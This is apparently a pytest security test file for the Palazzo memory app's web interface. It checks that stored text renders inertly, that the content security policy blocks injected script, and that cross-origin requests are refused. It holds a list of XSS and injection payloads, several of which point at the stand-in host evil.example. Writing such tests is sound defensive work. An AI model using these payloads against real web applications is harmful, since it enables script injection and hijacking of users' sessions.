"""What somebody else wrote stays text: in memories, names, places, tags, questions, commands and folders."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from tests.surfaces.daemon import Running, as_operator, daemon, sign_in_link

from palazzo import Memory

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.surfaces.web.conftest import Opened

PAYLOADS = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    "</title><script>window.owned=1</script>",
    "javascript:window.owned=1",
    "<a href='javascript:window.owned=1'>come here</a>",
    "'\"><iframe srcdoc='<script>parent.owned=1</script>'>",
    "{{constructor.constructor('window.owned=1')()}}",
    "${window.owned=1}",
    "<math><mtext></p><img src=x onerror=window.owned=1></mtext></math>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<b>bold</b> &lt;script&gt;window.owned=1&lt;/script&gt;",
    "__proto__",
    "<base href='https://evil.example/'><form action='https://evil.example'><button>send</button></form>",
)


PUT_IN = """() => {
  const name = (act) => { try { act(); return "went"; } catch (error) { return error.name; } };
  const image = document.createElement("img"), script = document.createElement("script");
  image.src = "https://evil.example/x.png";
  document.body.append(image);
  window.refused = [
    name(() => { document.body.innerHTML += "<b>in</b>"; }), name(() => { script.textContent = "window.owned = 1"; }),
  ];
}"""
SENT = """(url) => fetch(url, {
  method: "POST", credentials: "include", headers: { "content-type": "application/json" },
  body: JSON.stringify({ text: "I was here." }),
}).then((reply) => reply.status, () => "refused")"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Running, list[str]]]:
    folder: Path = tmp_path_factory.mktemp("hostile") / "palace"
    ids: list[str] = []
    with Memory(folder, embedder="none") as memory:
        for number, text in enumerate(PAYLOADS):
            said = f"Note {number} of the harbour says {text}"
            kept: Any = memory.remember(
                said, place="work.harbour", name=f"note {number} {text[:40]}", verbatim=True, kind="fact",
                metadata={"said": text},
            )  # fmt: skip
            ids.append(str(kept.id))
            memory.tag(ids[-1], f"tag{number}{text[:30]}")
        memory.relate(ids[0], ids[1], metadata={PAYLOADS[1]: PAYLOADS[0]})
        memory.capture_enable("shell")
        told = {"source": "shell", "kind": "command"}
        memory.capture_events(
            [{**told, "reference": f"echo {text}", "metadata": {"cwd": f"/srv/{text}"}} for text in PAYLOADS]
        )
        memory.capture_private("command", pattern=PAYLOADS[1])
        (folder.parent / PAYLOADS[2].replace("/", " ")).mkdir()
        memory.snapshot_save(place="work.harbour", cwd=str(folder.parent / PAYLOADS[2].replace("/", " ")))
        memory.update(ids[1], "Note 1 of the harbour is <img src=x onerror=window.owned=1> another.")
    with daemon(folder) as running:
        yield running, ids


def test_texts_that_look_like_code_are_shown_and_never_run(opened: Opened, hostile: tuple[Running, list[str]]) -> None:
    running, ids = hostile
    page = opened(palace=running)
    page.locator(".row .main", has_text="note 1").first.wait_for()
    views = [f"#/memory/{one}" for one in ids[:6]]
    views += [f"#/graph/{ids[0]}", "#/places/work.harbour", "#/recall?q=harbour note says", "#/timeline?q=harbour"]
    views += [
        "#/capture",
        "#/snapshots",
        "#/entities",
        "#/audit",
        f"#/recall?q={PAYLOADS[1]}",
        f"#/{PAYLOADS[0]}",
        f"#/places/{PAYLOADS[1]}",
    ]
    for where in views:
        page.goto(f"{running.url}/{where}")
        page.locator("main h1").wait_for()
        page.locator("main .empty[role=status]").first.wait_for(state="detached")
        assert page.evaluate("window.owned") is None, where
        assert page.locator("main script, main iframe, main base, main style, main img, main math, main b").count() == 0
        assert page.locator("a[href^='javascript']").count() == 0
    page.goto(f"{running.url}/#/memory/{ids[0]}")
    page.locator(".whole .text", has_text="<script>window.owned=1</script>").wait_for()


def test_a_script_that_is_put_into_the_page_is_refused_by_its_policy(
    browser: Any, hostile: tuple[Running, list[str]]
) -> None:
    running, _ = hostile
    page = browser.new_context().new_page()
    said: list[str] = []
    page.on("console", lambda line: said.append(line.text))
    page.goto(running.url)
    page.get_by_role("heading", name="Palazzo").wait_for()
    page.evaluate(PUT_IN)
    assert page.evaluate("window.refused") == ["TypeError", "TypeError"], "trusted types take neither markup nor code"
    assert page.evaluate("window.owned") is None
    assert page.evaluate("fetch('https://evil.example/').then(() => 'went', () => 'refused')") == "refused"
    assert any("Content Security Policy" in line for line in said)
    page.context.close()


def test_a_page_of_another_origin_cannot_use_who_is_signed_in(
    browser: Any, palace: Running, hostile: tuple[Running, list[str]]
) -> None:
    other, _ = hostile
    page = browser.new_context().new_page()
    page.goto(sign_in_link(palace))
    page.get_by_role("heading", level=1, name="Overview").wait_for()
    page.goto(f"{other.url}/")
    page.get_by_role("heading", name="Palazzo").wait_for()
    assert page.evaluate(f"({SENT})('{palace.url}/v1/remember')") == "refused"
    page.context.close()
    assert "I was here." not in [memory.text for memory in as_operator(palace.folder, "list", limit=200)]
